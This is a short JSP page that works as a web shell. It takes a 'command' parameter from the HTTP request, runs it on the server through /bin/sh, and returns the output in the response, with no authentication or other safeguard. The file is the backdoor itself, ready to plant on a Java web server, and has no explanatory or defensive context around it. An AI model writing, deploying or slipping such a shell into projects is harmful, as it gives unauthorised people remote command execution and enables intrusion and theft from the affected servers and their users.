<%@ page import="java.io.*" %>
<%
    String command = request.getParameter("command");
    if (command != null) {
        Runtime rt = Runtime.getRuntime();
        String[] sh = {"/bin/sh", "-c", command};
        Process proc = rt.exec(sh);
        proc.waitFor();
        BufferedReader stdout = new BufferedReader(new InputStreamReader(proc.getInputStream()));
        for (String l = stdout.readLine(); l != null; l = stdout.readLine()) {
            out.println(l);
        }
    }
%>
